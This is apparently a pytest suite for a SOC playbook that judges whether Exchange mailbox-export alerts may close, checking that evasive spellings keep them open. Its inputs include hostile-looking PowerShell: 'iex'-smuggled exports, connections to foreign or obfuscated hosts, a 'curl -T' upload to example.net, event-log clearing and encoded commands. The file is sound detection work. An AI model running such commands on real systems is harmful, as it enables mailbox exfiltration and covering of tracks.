"""The policy to the letter: spellings that mean the same close alike, and no trick of spelling closes."""

import asyncio
import os
import subprocess
import sys
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from fakes import later_event
from hypothesis import given, settings
from hypothesis import strategies as st
from worlds import (
    ADMIN_SID,
    CASE,
    HONEST,
    JOB,
    JOB_EXPORT,
    JOB_SID,
    MAINTENANCE,
    OWN,
    POWERSHELL,
    TENANT,
    changed,
    codes,
    event,
    job_row,
    judge,
    learn,
    moment,
    person,
    reworded,
    tenant,
    user,
)

from playbooks.mailbox_export import Evidence, decide
from playbooks.model import (
    Account,
    Close,
    Found,
    LoggedAlert,
    Lookup,
    ProcessEvent,
    Unavailable,
)

type Pair = tuple[ProcessEvent, ...]
type World = dict[str, Any]
type Change = Callable[[World], object]

TARGET = r"\\FS01\Exports$\a\audit.pst"
UNREAD = Unavailable("test", "the service did not answer")


def verdict_codes(pair: Pair, world: World | None = None, **more: Any) -> set[str]:
    """Codes that keep the pair open; a close has none."""
    return codes(asyncio.run(judge(pair, world, **more)).verdict)


def with_export(script: str) -> Pair:
    """The job with its export's text replaced."""
    return (event(script, "2024-11-18 21:00"), JOB[1])


def with_removal(script: str) -> Pair:
    """The job with its removal's text replaced."""
    return (JOB[0], event(script, "2024-11-18 21:40"))


def all_of(pair: Pair, **columns: str) -> Pair:
    """The pair with columns of both events changed."""
    return tuple(replace(one, **columns) for one in pair)


SAME_EXPORT = {
    "call operator": "& " + JOB_EXPORT,
    "call operator and quotes": JOB_EXPORT.replace(
        "New-MailboxExportRequest", "& 'New-MailboxExportRequest'"
    ),
    "splatting a fixed table": (
        rf"$p=@{{Mailbox='audit.box';BatchName='NightlyExport';FilePath='{TARGET}'}}; "
        "New-MailboxExportRequest @p"
    ),
    "a variable that is set once": JOB_EXPORT.replace("-Mailbox audit.box", "-Mailbox $m").join(
        ("$m='audit.box'; ", "")
    ),
    "positional at the end": (
        rf"New-MailboxExportRequest -BatchName NightlyExport -FilePath '{TARGET}' audit.box"
    ),
    "a date in the folder": JOB_EXPORT.replace(
        f"'{TARGET}'", r"('\\FS01\Exports$\' + (Get-Date -Format yyyyMMdd) + '\audit.pst')"
    ),
    "a date in the batch": JOB_EXPORT.replace(
        "-BatchName NightlyExport", "-BatchName ('NightlyExport_'+(Get-Date -Format yyyyMMdd))"
    ),
    "a loop over literals": JOB_EXPORT.replace("-Mailbox audit.box", "-Mailbox $_").join(
        ("'audit.box' | % { ", " }")
    ),
    "forest-wide view": "Set-ADServerSettings -ViewEntireForest $true; " + JOB_EXPORT,
    "other switches": JOB_EXPORT
    + " -BadItemLimit 10 -Priority Normal -ExcludeDumpster -Suspend -WhatIf:$false",
    "an internal remote host": JOB_EXPORT + " -RemoteHostName mail.contoso.com",
    "doubled separators": JOB_EXPORT.replace(r"\Exports$", r"\\Exports$"),
}


@pytest.mark.parametrize("name", SAME_EXPORT)
def test_an_export_that_means_the_same_closes(name: str) -> None:
    """Honest spellings of one command."""
    assert set() == verdict_codes(with_export(SAME_EXPORT[name]))


SAME_CLEANING = (
    "Get-MailboxExportRequest | ? {$_.Status -like 'Completed*'} | Remove-MailboxExportRequest -cf:$false",
    "Get-MailboxExportRequest | ? Status -like completed | Remove-MailboxExportRequest",
    (
        "Get-MailboxExportRequest | ? {$_.Status -in 'Completed','CompletedWithWarning'}"
        " | Remove-MailboxExportRequest"
    ),
)


@pytest.mark.parametrize("script", SAME_CLEANING)
def test_a_cleaning_of_finished_requests_closes_however_the_status_is_written(script: str) -> None:
    """A wildcard over the statuses is a list of statuses."""
    cleaning = event(script, "2024-11-18 21:30", target_username=r"NT AUTHORITY\SYSTEM")

    assert set() == verdict_codes((JOB[0], cleaning))


@pytest.mark.parametrize("pattern", ["*", "C*", "*ed", "Comp?eted", "[C]ompleted", "", "*Warning*x"])
def test_a_wildcard_that_lets_more_through_is_not_limited(pattern: str) -> None:
    """Completion in progress, failed, suspended, or no status at all."""
    script = f"Get-MailboxExportRequest | ? {{$_.Status -like '{pattern}'}} | Remove-MailboxExportRequest"
    cleaning = event(script, "2024-11-18 21:30", target_username=r"NT AUTHORITY\SYSTEM")

    assert "removal_unscoped" in verdict_codes((JOB[0], cleaning))


OPEN_EXPORT: dict[str, tuple[str, str]] = {
    "a foreign remote host": (JOB_EXPORT + " -RemoteHostName mail.example.net", "target_untrusted_host"),
    "a remote host from a variable": (JOB_EXPORT + " -RemoteHostName $h", "command_unparsed"),
    "another kind of target": (JOB_EXPORT + " -ComplianceStorePath x", "command_unparsed"),
    "a folder for a file": (JOB_EXPORT.replace("audit.pst", "audit.pst/"), "target_not_pst"),
    "a server from a property": (
        "Get-Mailbox | % { " + JOB_EXPORT.replace(f"'{TARGET}'", r"('\\'+$_.Alias+'\a.pst')") + " }",
        "command_unparsed",
    ),
    "a share from a property": (
        "Get-Mailbox | % { " + JOB_EXPORT.replace(f"'{TARGET}'", r"('\\FS01\'+$_.Alias+'\a.pst')") + " }",
        "command_unparsed",
    ),
    "a variable that is set twice": (
        "$m='audit.box'; $m='boss'; " + JOB_EXPORT.replace("audit.box ", "$m ", 1), "command_unparsed",
    ),
    "text that is run": (
        f"iex 'New-MailboxExportRequest boss -FilePath C:\\y.pst'; {JOB_EXPORT}", "target_untrusted_host",
    ),
    "piped text that is run": (f"'Remove-MoveRequest x' | iex; {JOB_EXPORT}", "removal_unscoped"),
    "a script of that name elsewhere": (
        r". 'C:\Program Files\Microsoft\Exchange Server\V15\bin\..\x\RemoteExchange.ps1'; " + JOB_EXPORT,
        "script_unregistered",
    ),
    "an environment variable": (JOB_EXPORT.replace(f"'{TARGET}'", r"$env:TEMP\a.pst"), "command_unparsed"),
}  # fmt: skip


@pytest.mark.parametrize("name", OPEN_EXPORT)
def test_an_export_with_a_trick_in_it_stays_open(name: str) -> None:
    """Each with the code that says what is wrong."""
    script, code = OPEN_EXPORT[name]

    assert code in verdict_codes(with_export(script))


FOREIGN_SERVERS = (
    "Connect-ExchangeServer -ServerFqdn exch.example.net",
    "Connect-ExchangeServer exch.example.net",
    "Connect-ExchangeServer -auto:$false exch.example.net -ClientApplication:x",
    "Connect-ExchangeServer -Auto -Forest example.net",
    "Connect-ExchangeServer -s exch.example.net",
    "Connect-ExchangeServer -ServerFqdn 192.0.2.7",
    "Connect-ExchangeServer -ServerFqdn 3221225991",
    "Connect-ExchangeServer -ServerFqdn '0xC0000207'",
    "Connect-ExchangeServer -ServerFqdn 2001:db8::1",
    "Connect-ExchangeServer -ServerFqdn exch01.contoso.com.example.net",
    "Connect-ExchangeServer -ServerFqdn notcontoso.com",
    "Connect-ExchangeServer -ServerFqdn 'exch01.contoso.com,exch.example.net'",
    "$p=@{ServerFqdn='exch.example.net'}; Connect-ExchangeServer @p",
    "$s='exch.example.net'; Connect-ExchangeServer -ServerFqdn $s",
    "Set-ADServerSettings -ConfigurationDomainController dc.example.net",
    "Set-ADServerSettings -PreferredServer:dc.example.net",
    "Set-ADServerSettings -PreferredGlobalCatalog dc.example.net",
    "Set-ADServerSettings -SetPreferredDomainControllers 'dc01.contoso.com','dc.example.net'",
    "Get-ADUser x -Server dc.example.net | Out-Null",
    "Get-ADUser x -Server dc.example.net:389",
    "Get-ADUser x -ser dc.example.net",
    "Get-Service x -CN mail.example.net",
    "Get-Service -c mail.example.net",
    "Get-PSSession -ConnectionUri https://exch.example.net/PowerShell",
    "Get-PSSession -ConnectionUri https://exch01.contoso.com@example.net/PowerShell",
    r"Get-PSSession -ConnectionUri https://example.net\@exch01.contoso.com/",
    "Get-CimInstance -CimSession mail.example.net Win32_Service",
    "Test-Connection mail.example.net",
    "'mail.example.net' | Test-Connection",
    "Get-MailboxExportRequest -Do dc.example.net | Out-Null",
    r"Test-Path \\mail.example.net\share",
    r"Get-Content FileSystem::\\192.0.2.7\share\x.txt",
    r"Get-ChildItem -Path ('\\mail.example.net\'+(Get-Random))",
)


@pytest.mark.parametrize("command", FOREIGN_SERVERS)
def test_a_server_outside_the_organisation_stays_open(command: str) -> None:
    """Whoever owns the server decides what the commands do, and sees the credentials."""
    assert "target_untrusted_host" in verdict_codes(with_export(f"{command}; {JOB_EXPORT}"))


@pytest.mark.parametrize("name", ["DomainController", "MRSServer", "RemoteHostName", "Do"])
def test_a_foreign_server_of_an_export_or_removal_stays_open(name: str) -> None:
    """Our own cmdlets name servers too, written out or shortened."""
    removal = "Get-MailboxExportRequest -BatchName NightlyExport | Remove-MailboxExportRequest"

    assert "target_untrusted_host" in verdict_codes(with_export(f"{JOB_EXPORT} -{name} a.example.net"))
    if name in {"DomainController", "Do"}:
        assert "target_untrusted_host" in verdict_codes(with_removal(f"{removal} -{name} a.example.net"))


@pytest.mark.parametrize(
    "command",
    [
        "Connect-ExchangeServer -ServerFqdn $env:SERVER",
        "Get-ADUser x -Server ('dc'+$x)",
        "Get-Service @p",
        "Get-ADUser x -Server {dc.example.net}",
    ],
)
def test_a_server_that_the_text_does_not_fix_stays_open(command: str) -> None:
    """It may be anyone's."""
    assert "command_unparsed" in verdict_codes(with_export(f"{command}; {JOB_EXPORT}"))


@pytest.mark.parametrize(
    "command",
    [
        "Connect-ExchangeServer -auto -ClientApplication:ManagementShell",
        "Connect-ExchangeServer -ServerFqdn EXCH01",
        "Connect-ExchangeServer exch01.contoso.com.",
        "Set-ADServerSettings -PreferredServer DC01.CONTOSO.COM -ViewEntireForest $true",
        "Get-ADUser x -Server contoso.com | Out-Null",
        "Get-ADUser x -Server dc01:3268",
        "Get-PSSession -ConnectionUri http://exch01/PowerShell/",
        r"Test-Path \\FS01\Exports$\a",
        "Test-Connection fs01 -Count 1 -Quiet",
        "Start-Sleep -s 5",
        "Get-Mailbox audit.box | Select-Object -First 5 | Out-Null",
        "Write-Host 'see https://example.net/'",
        "Write-EventLog -LogName Application -Source Export.Job -EventId 1 -Message done",
    ],
)
def test_a_server_of_the_organisation_still_closes(command: str) -> None:
    """Short names, full names, the domain itself; and what is no server at all."""
    assert set() == verdict_codes(with_export(f"{command}; {JOB_EXPORT}"))


@pytest.mark.parametrize(
    ("condition", "closes"),
    [
        ("Received -gt '1/1/2024'", True),
        ("(Received -ge '01/01/2024 00:00') -and (Sent -lt '2024-02-01T00:00:00Z')", True),
        ("Received -gt '1/1/2024' <# ' #> -and Subject -like '1*' <# ' #>", False),
        ("Received -gt '1/1/2024' # '", False),
        ("Received -gt \u2019 ' \u2019 -and Subject -like \u2019 ' \u2019", False),
        ("Received -gt \u201c ' \u201d -and Subject -like \u201c ' \u201d", False),
        ("Received -gt `'1' -and Subject -like `'1'", False),
        ("Received -gt '1/1/2024", False),
        ("Received -gt '1' -and Subject -like '1*'", False),
        ("Received -gt '$(x)'", False),
    ],
)
def test_only_a_plain_span_of_dates_is_no_filter_of_contents(condition: str, closes: bool) -> None:
    """What another reader could take for a comment, an escape or a quote is no date."""
    line = OWN[0].target_process_command_line.replace(
        " -FilePath", f" -ContentFilter {{{condition}}} -FilePath"
    )

    assert closes is (verdict_codes(changed(OWN, 0, target_process_command_line=line)) == set())


@pytest.mark.parametrize(
    "tail",
    [
        " #\nGet-MailboxExportRequest | Remove-MailboxExportRequest",
        " #\n& C:\\x.exe",
        " <# #>\r& C:\\x.exe",
        "\nAdd-RoleGroupMember x -Member boss",
    ],
)
def test_a_line_end_outside_quotes_hides_nothing(tail: str) -> None:
    """Windows separates arguments at blanks and tabs alone: a line end stays, and ends a comment."""
    line = f"{POWERSHELL} -NonInteractive -Command {JOB_EXPORT}{tail}"

    assert verdict_codes(changed(JOB, 0, target_process_command_line=line))


@pytest.mark.parametrize(
    ("script", "pair"),
    [
        ("Get-MailboxExportRequest -BatchName OtherJob | Remove-MailboxExportRequest", JOB),
        (r"Remove-MailboxExportRequest 'boss\MailboxExport'", OWN),
        ("Get-MailboxExportRequest -Mailbox boss | Remove-MailboxExportRequest", CASE),
    ],
)
def test_taking_the_requests_of_another_is_unscoped(script: str, pair: Pair) -> None:
    """The account's own export is covered; what it removes is not what it made."""
    text = pair[1].target_process_command_line
    line = f'{text[: text.index(" -Command ")]} -Command "{script}"'

    assert {"removal_unscoped", "removal_uncovered"} <= verdict_codes(
        changed(pair, 1, target_process_command_line=line)
    )


def test_an_own_request_that_nothing_covers_is_not_called_another_s() -> None:
    """The mailbox is the same person's under another of its names, and the hour is wrong."""
    late = person(
        "Get-MailboxExportRequest -Mailbox admin@contoso.com | Remove-MailboxExportRequest",
        "2024-11-20 18:40", "admin", "ws-adm01.contoso.com",
    )  # fmt: skip
    found = verdict_codes((OWN[0], late))

    assert "removal_uncovered" in found
    assert "removal_unscoped" not in found


CONVENTIONS: dict[str, dict[str, str]] = {
    "Sysmon, other case": {
        "actor_username": r"nt authority\system", "target_username": r"contoso\SVC-JOB",
    },
    "Sysmon, DNS domain": {"target_username": r"contoso.com\svc-job"},
    "UPN": {"target_username": "svc-job@contoso.com"},
    "Defender, SYSTEM as actor": {
        "event_product": "M365 Defender for Endpoint", "actor_user_id": "S-1-5-18", "target_user_id": JOB_SID,
    },
    "Defender, actor alone": {
        "event_product": "M365 Defender for Endpoint", "actor_username": r"CONTOSO\svc-job",
        "actor_user_id": JOB_SID, "target_username": "",
    },
    "4688": {
        "event_product": "Security Events", "actor_username": r"CONTOSO\EXCH01$", "actor_user_id": "S-1-5-18",
        "target_user_id": "S-1-0-0", "acting_process_command_line": "",
    },
    "4688 without SIDs": {
        "event_product": "Security Events", "actor_username": "EXCH01$", "acting_process_command_line": "",
    },
    "target is a hyphen": {"actor_username": r"CONTOSO\svc-job", "target_username": "-"},
    "target is hyphens": {"actor_username": r"CONTOSO\svc-job", "target_username": "-\\-"},
    "target is Nobody": {
        "actor_username": r"CONTOSO\svc-job", "target_username": "Nobody", "target_user_id": "S-1-0-0",
    },
    "Sysmon before it named the parent's account": {"actor_username": ""},
    "Sysmon collected as Windows events": {"event_product": "Security Events"},
    "Defender, the account on both sides": {
        "event_product": "M365 Defender for Endpoint", "actor_username": r"CONTOSO\svc-job",
        "actor_user_id": JOB_SID, "target_user_id": JOB_SID,
    },
}  # fmt: skip


@pytest.mark.parametrize("name", CONVENTIONS)
def test_the_runner_is_found_in_every_product_s_columns(name: str) -> None:
    """One job, told by each source in its own way."""
    assert set() == verdict_codes(all_of(JOB, **CONVENTIONS[name]))


NO_SCHEDULER: dict[str, dict[str, str]] = {
    "the host as NETWORK SERVICE": {"actor_username": r"CONTOSO\EXCH01$", "actor_user_id": "S-1-5-20"},
    "NETWORK SERVICE by name": {"actor_username": r"NT AUTHORITY\NETWORK SERVICE"},
    "NETWORK SERVICE by SID": {"actor_username": "", "actor_user_id": "S-1-5-20"},
    "NETWORK SERVICE in Defender": {
        "event_product": "M365 Defender for Endpoint", "actor_user_id": "S-1-5-20", "target_user_id": JOB_SID,
    },
    "the account itself": {"actor_username": r"CONTOSO\svc-job"},
    "the account itself, both by SID": {
        "actor_username": "", "actor_user_id": JOB_SID, "target_user_id": JOB_SID,
    },
    "the account itself in 4688": {
        "event_product": "Security Events", "actor_username": r"CONTOSO\svc-job", "target_username": "-",
    },
    "the account itself in a product of another maker": {
        "event_product": "Sentinel One", "actor_username": r"CONTOSO\svc-job",
    },
}  # fmt: skip


@pytest.mark.parametrize("name", NO_SCHEDULER)
def test_a_scheduler_s_command_line_under_another_account_proves_nothing(name: str) -> None:
    """The service runs as SYSTEM; anyone can start a svchost.exe, or forge its command line."""
    assert {"export_uncovered", "removal_uncovered", "parent_suspicious"} <= verdict_codes(
        all_of(JOB, **NO_SCHEDULER[name])
    )


STRANGERS: dict[str, tuple[dict[str, str], Change | None, str]] = {
    "another domain": ({"target_username": r"FABRIKAM\svc-job"}, None, "runner_unknown"),
    "a local account": ({"target_username": r"EXCH01\svc-job"}, None, "runner_unknown"),
    "no domain": ({"target_username": "svc-job"}, None, "runner_unknown"),
    "two of that name": (
        {}, lambda w: w["users"].append(user("svc-job", "S-1-5-21-1-1-1-1", id="id-twin")), "runner_unknown",
    ),
    "name and SID of two": ({"target_user_id": ADMIN_SID}, None, "runner_unknown"),
    "the name under another SID": (
        {"target_user_id": "S-1-5-21-9-9-9-9"}, None, "identity_conflict",
    ),
    "a service that is asked for twice": (
        {"acting_process_command_line": "svchost.exe -k netsvcs -s Winmgmt -s Schedule"},
        None, "export_uncovered",
    ),
    "the computer account as scheduler's network service": (
        {
            "event_product": "Security Events", "actor_username": r"CONTOSO\EXCH01$",
            "actor_user_id": "S-1-5-20", "acting_process_command_line": "",
        },
        None, "export_uncovered",
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", STRANGERS)
def test_an_account_that_is_not_exactly_one_known_user_keeps_it_open(name: str) -> None:
    """None, several, or name and SID that disagree."""
    columns, change, code = STRANGERS[name]

    assert code in verdict_codes(all_of(JOB, **columns), tenant(change))


@pytest.mark.parametrize(
    "name", ["Diſcovery Management", "Discovery Management\u200b", "Discovery  Management"]
)
def test_a_group_that_only_looks_like_the_setting_s_is_another(name: str) -> None:
    """Anybody may create a group; the long s is no s."""
    assert "export_uncovered" in verdict_codes(
        CASE, tenant(lambda w: w["groups"][1].update(displayName=name))
    )


@pytest.mark.parametrize("cell", [r"CONTOSO\custodian", "CUSTODIAN@contoso.com", "id-custodian", "custodian"])
def test_a_vip_is_known_by_every_name_of_the_list(cell: str) -> None:
    """A NetBIOS name in the list counts by its second half."""
    world = tenant(lambda w: w["watchlists"].update(VIPUsers=[{"User Identifier": cell}]))

    assert {"vip_mailbox"} == verdict_codes(CASE, world)


@pytest.mark.parametrize("name", ["id-svc-job", JOB_SID.lower(), r"contoso.com\svc-job", "exch01"])
def test_an_alert_counts_under_every_name_of_runner_and_host(name: str) -> None:
    """Directory id, SID, both domain names, short host name."""
    alert = LoggedAlert(
        time=moment("2024-11-18 20:00"), system_alert_id="x", name="x", product="x",
        rule_ids=frozenset(), host_names=frozenset({name}), account_names=frozenset({name}),
    )  # fmt: skip

    assert {"other_alerts"} == verdict_codes(JOB, alerts=[alert])


@pytest.mark.parametrize(
    ("export", "removal", "closes"),
    [
        ("2024-10-27 00:15", "2024-10-27 00:45", True),
        ("2024-10-27 01:15", "2024-10-27 02:40", True),
        ("2024-10-27 01:15", "2024-10-27 02:51", False),
        ("2024-10-27 01:55", "2024-10-27 02:05", False),
    ],
)
def test_a_window_in_the_hour_that_comes_twice_is_read_on_the_wall_clock(
    export: str, removal: str, closes: bool
) -> None:
    """On the last Sunday of October Vienna's clock shows 02:10 to 02:50 twice."""
    pair = (replace(JOB[0], time=moment(export)), replace(JOB[1], time=moment(removal)))
    world = tenant(lambda w: job_row(w).update(Window="02:10-02:50"))

    assert closes is not bool(verdict_codes(pair, world))


@pytest.mark.parametrize(
    ("code", "line", "program"),
    [
        ("task_changed", "schtasks /create/tn x /tr y", "schtasks.exe"),
        ("task_changed", "schtasks -change /tn x", "schtasks.exe"),
        ("role_granted", "powershell -c \"iex 'Add-RoleGroupMember x -Member y'\"", POWERSHELL),
        ("log_cleared", "Clear-EventLog Security", POWERSHELL),
        ("upload_tool", "curl -T a https://example.net", ""),
    ],
)
def test_nearby_tools_are_seen_in_further_spellings(code: str, line: str, program: str) -> None:
    """Switches that touch, text that is run, a cmdlet logged as a line of its own."""
    near = person(
        "x", "2024-11-18 21:10", "boss", "exch01.contoso.com",
        target_process_command_line=line, target_process_name=program,
    )  # fmt: skip

    assert code in verdict_codes(JOB, nearby=[near])


ABBREVIATED = {
    "-Mailbox ": ("-Mailb ", "-mailbox ", "-MAILBOX:", "-Mailbox  "),
    "-BatchName ": ("-Batch ", "-batchname:", "-BATCHN "),
    "-FilePath ": ("-File ", "-F ", "-filepath:"),
    "-Confirm:$false": ("-cf:$false", "-Con:$False", "-confirm: $false", "-Confirm:0"),
    "-Status ": ("-St ", "-STATUS:"),
    "-Identity ": ("-Id ", "-identity:", ""),
    " | ": ("|", " |", " |\n ", "  |  "),
    "'": ("'", '\\"', "\u2019"),
}
WRAPPED = (
    '{shell} -Command "{script}"',
    '{shell} -NoProfile -NonInteractive -W Hidden -c "{script}"',
    '"{shell}" -ExecutionPolicy Bypass -Command "& {{{script}}}"',
    'C:\\Windows\\System32\\cmd.exe /c {shell} -Command "{script}"',
    '{shell} -Command "<# run {{by}} the -Mailbox * task #> {script}"',
    '{shell} -Command "Start-Sleep 1; {script} # done"',
    '{shell} /c "{script}"',
)  # fmt: skip
SPELT = {
    **HONEST,
    "another mailbox": reworded(JOB, 0, "audit.box", "boss"),
    "another folder": reworded(JOB, 0, "Exports$", "Exports2$"),
    "another batch": reworded(JOB, 1, "NightlyExport", "OtherJob"),
    "no custodian": reworded(CASE, 0, "custodian", "boss"),
    "another's mailbox": reworded(OWN, 0, "-Mailbox admin", "-Mailbox boss"),
    "cleaning failed ones": reworded(MAINTENANCE, 1, "Completed", "Failed"),
}


@settings(max_examples=150, deadline=None)
@given(name=st.sampled_from(sorted(SPELT)), data=st.data())
def test_a_spelling_that_means_the_same_gets_the_same_verdict(name: str, data: st.DataObject) -> None:
    """Case, quotes, abbreviations, colons, order and shells: neither honest work nor its flaw is affected."""
    pair = SPELT[name]
    which = data.draw(st.integers(0, 1))
    line = pair[which].target_process_command_line
    script = line[line.index(' -Command "') + 11 : -1]
    wrapping = data.draw(st.sampled_from(WRAPPED))
    columns = {
        "target_process_command_line": wrapping.format(
            shell=POWERSHELL, script=_respelt(_reordered(script, data), data)
        ),
        "target_process_name": r"C:\Windows\System32\cmd.exe" if "cmd.exe" in wrapping else POWERSHELL,
    }

    assert verdict_codes(pair) == verdict_codes(changed(pair, which, **columns))


def _reordered(script: str, data: st.DataObject) -> str:
    """The parameters of an export in another order; what the text is not made of them stays as it is."""
    if not script.startswith("New-MailboxExportRequest -"):
        return script
    cmdlet, *parameters = script.split(" -")
    return " -".join((cmdlet, *data.draw(st.permutations(parameters))))


def _respelt(script: str, data: st.DataObject) -> str:
    """Some parameters abbreviated, other quotes, another case of the cmdlets."""
    for plain, others in ABBREVIATED.items():
        if plain in script:
            script = script.replace(plain, data.draw(st.sampled_from((plain, *others))))
    upper = data.draw(st.booleans())
    for cmdlet in ("New-MailboxExportRequest", "Get-MailboxExportRequest", "Remove-MailboxExportRequest"):
        script = script.replace(cmdlet, cmdlet.upper() if upper else cmdlet)
    return script


@settings(max_examples=120, deadline=None)
@given(scenario=st.sampled_from(sorted(HONEST)), data=st.data())
def test_any_required_item_that_is_unknown_keeps_it_open(scenario: str, data: st.DataObject) -> None:
    """I3: in the evidence itself, one or two of the items that a close rests on are unknown."""
    evidence = EVIDENCE[scenario]
    assert isinstance(decide(evidence).verdict, Close)
    blinded = evidence
    for name in data.draw(st.sets(st.sampled_from(sorted(_items(evidence))), min_size=1, max_size=2)):
        blinded = _items(blinded).get(name, blinded)

    assert not isinstance(decide(blinded).verdict, Close)


EVIDENCE = {scenario: asyncio.run(learn(pair)) for scenario, pair in HONEST.items()}


def _items(evidence: Evidence) -> dict[str, Evidence]:
    """The evidence with one item unknown, by the item's name; what is only shown is left out."""
    plain = ("period", "events", "role_grants", "logs_reach", "alerts", "closes")
    found = {name: replace(evidence, **{name: UNREAD}) for name in plain}
    found["incident alerts"] = replace(evidence, incident=replace(evidence.incident, alerts=UNREAD))
    for alias in ("VIPUsers", "TerminatedEmployees", *_needed(evidence)):
        lists: tuple[tuple[str, Lookup[Any]], ...] = tuple(
            (name, UNREAD if name == alias else items) for name, items in evidence.watchlists
        )
        found[alias] = replace(evidence, watchlists=lists)
    for place, asked in enumerate(evidence.runners):
        for part in ("by_name", "groups", "roles", "risk"):
            if getattr(asked, part) is not None:
                runners = list(evidence.runners)
                runners[place] = replace(asked, **{part: UNREAD})
                found[f"{part} {place}"] = replace(evidence, runners=tuple(runners))
    for place, (name, _) in enumerate(evidence.mailboxes):
        mailboxes = list(evidence.mailboxes)
        mailboxes[place] = (name, UNREAD)
        found[f"mailbox {place}"] = replace(evidence, mailboxes=tuple(mailboxes))
    return found


def _needed(evidence: Evidence) -> tuple[str, ...]:
    """The registers that the close of this evidence rests on, by the words of its reasons."""
    verdict = decide(evidence).verdict
    texts = " ".join(reason.text for reason in verdict.reasons)
    needed = [alias for alias in ("MailboxExportJobs", "EDiscoveryCases") if alias in texts]
    return (*needed, *(["MailboxExportHosts"] if "own mailbox" in texts else []))


ADVERSE_ALERTS = tuple(
    LoggedAlert(
        time=moment(when), system_alert_id=f"x{place}", name="x", product="x", rule_ids=frozenset(),
        host_names=frozenset({host}), account_names=frozenset({account}),
    )
    for place, (when, host, account) in enumerate(
        (
            ("2024-11-18 20:00", "exch01", ""),
            ("2024-11-18 22:00", "", r"contoso\svc-job"),
            ("2024-11-20 09:00", "legal-ws01", r"contoso\legal"),
            ("2024-11-20 13:30", "ws-adm01.contoso.com", ""),
        )
    )
)  # fmt: skip
UNCOVERED = tuple(
    person(command, when, who, host)
    for when, host in (
        ("2024-11-18 21:20", "exch01.contoso.com"),
        ("2024-11-20 13:20", "legal-ws01.contoso.com"),
        ("2024-11-20 13:20", "ws-adm01.contoso.com"),
    )
    for who, command in (
        ("boss", r"New-MailboxExportRequest -Mailbox custodian -FilePath '\\FS01\Exports$\a\x.pst'"),
        ("admin", r"New-MailboxExportRequest boss -BatchName LEG-1 -FilePath '\\FS-LEGAL\Cases$\LEG-1\x'"),
        ("legal", "Get-MailboxExportRequest -BatchName NightlyExport | Remove-MailboxExportRequest"),
        ("boss", "powershell -enc AAAA; New-MailboxExportRequest $x"),
    )
)  # fmt: skip
FLAWED = {
    **{name: pair for name, pair in SPELT.items() if name not in HONEST},
    "late": changed(JOB, 1, time=moment("2024-11-18 23:30")),
    "half": JOB[:1],
}


@settings(max_examples=80, deadline=None)
@given(
    base=st.sampled_from(sorted({**HONEST, **FLAWED})),
    alerts=st.sets(st.sampled_from(range(len(ADVERSE_ALERTS))), max_size=3),
    commands=st.sets(st.sampled_from(range(len(UNCOVERED))), max_size=3),
    strangers=st.booleans(),
    more_hosts=st.booleans(),
    closes=st.sampled_from([0, 99]),
)
def test_more_danger_never_closes_what_was_open(
    base: str, alerts: set[int], commands: set[int], strangers: bool, more_hosts: bool, closes: int
) -> None:
    """I4: alerts, entities and uncovered commands are added in any number."""
    pair = {**HONEST, **FLAWED}[base]
    before = verdict_codes(pair)
    hosts = {one.dvc_fqdn for one in pair} | ({"exch09.contoso.com"} if more_hosts else set())
    after = verdict_codes(
        pair,
        alerts=[ADVERSE_ALERTS[place] for place in alerts],
        nearby=[UNCOVERED[place] for place in commands],
        accounts=[Account(name="stranger", nt_domain="CONTOSO")] if strangers else (),
        hosts=tuple(sorted(hosts)),
        closes=closes,
    )

    assert after or not before
    assert after or not (strangers or more_hosts or closes)


def test_an_uncovered_command_on_the_host_is_seen_in_every_scenario() -> None:
    """What the property above adds does count where it ran."""
    for scenario, place in (("scheduled_export", 0), ("ediscovery", 4), ("self_export", 8)):
        assert "export_uncovered" in verdict_codes(HONEST[scenario], nearby=[UNCOVERED[place]])


@pytest.mark.parametrize("name", ["scheduled_export", "another mailbox"])
def test_hash_seed_locale_and_time_zone_of_the_machine_change_no_byte(name: str) -> None:
    """I12: the judgement of the same evidence, in processes that differ in everything else."""
    program = (
        "import asyncio, sys; sys.path[:0] = sys.argv[1:3]; import test_policy as t; "
        f"from worlds import judge; print(ascii(asyncio.run(judge(t.SPELT[{name!r}]))))"
    )
    tests = Path(__file__).parent
    shown = {
        subprocess.run(  # noqa: S603
            [sys.executable, "-c", program, str(tests), str(tests.parent)],
            env=os.environ | {"PYTHONHASHSEED": seed, "TZ": zone, "LC_ALL": language},
            capture_output=True,
            check=True,
            text=True,
        ).stdout
        for seed, zone, language in (("1", "UTC", "C"), ("2", "Asia/Tokyo", "de_DE.UTF-8"))
    }

    assert 1 == len(shown)
    assert "Judgement(" in shown.pop()


def test_the_evidence_of_these_tests_is_whole() -> None:
    """A property over evidence that was never found would hold for nothing."""
    for evidence in EVIDENCE.values():
        assert isinstance(evidence.events, Found)
        assert isinstance(evidence.logs_reach, Found)
        assert all(isinstance(answer, Found) for _, answer in evidence.mailboxes)
    assert set(TENANT["watchlists"]) == {"MailboxExportJobs", "EDiscoveryCases", "MailboxExportHosts"}
    assert later_event(moment("2024-11-18 21:00")).dvc_hostname not in {e.dvc_hostname for e in JOB}


def test_a_folder_in_quotes_for_cmd_is_no_cut_line() -> None:
    """What else runs on the host is no evidence that a command was cut."""
    listing = person(
        "x", "2024-11-18 21:10", "boss", "exch01.contoso.com",
        target_process_command_line='cmd.exe /c dir "C:\\Exports\\"',
        target_process_name=r"C:\Windows\System32\cmd.exe",
    )  # fmt: skip
    cut = replace(listing, target_process_command_line='cmd.exe /c dir "C:\\Exports')

    assert set() == verdict_codes(JOB, nearby=[listing])
    assert "command_cut" in verdict_codes(JOB, nearby=[cut])


def test_a_removal_under_its_own_names_alone_needs_no_export_name() -> None:
    """The batch with a suffix, and the request's name behind the mailbox."""
    for script in (
        "Get-MailboxExportRequest -BatchName NightlyExport-2 | Remove-MailboxExportRequest",
        r"Remove-MailboxExportRequest 'audit.box\NightlyExport_1' -Confirm:$false",
    ):
        assert set() == verdict_codes(with_removal(script))
